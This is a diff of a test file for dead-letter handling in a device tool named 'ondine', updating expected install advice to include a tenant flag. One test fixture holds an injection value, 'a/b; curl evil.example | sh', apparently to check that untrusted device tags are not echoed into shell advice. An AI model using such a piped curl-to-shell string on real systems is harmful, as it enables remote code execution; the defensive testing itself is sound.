@@ -197,7 +197,7 @@ describe('dead letters', () => {
     [
       'unknown-device',
       () => up(unknown, 1),
-      { devEui: unknown, tenant: null, advice: `ondine device install ${unknown} <asset> --model <vendor/model>` },
+      { devEui: unknown, tenant: null, advice: `ondine device install ${unknown} <asset> --model <vendor/model> --tenant <tenant>` },
     ],
     [
       'unknown-device',
@@ -206,7 +206,7 @@ describe('dead letters', () => {
         event.deviceInfo.tags = { model: 'a/b; curl evil.example | sh' }
         return { ...up(unknown, 1), payload: Buffer.from(JSON.stringify(event)) }
       },
-      { advice: `ondine device install ${unknown} <asset> --model <vendor/model>` },
+      { advice: `ondine device install ${unknown} <asset> --model <vendor/model> --tenant <tenant>` },
     ],
     [
       'unknown-model',
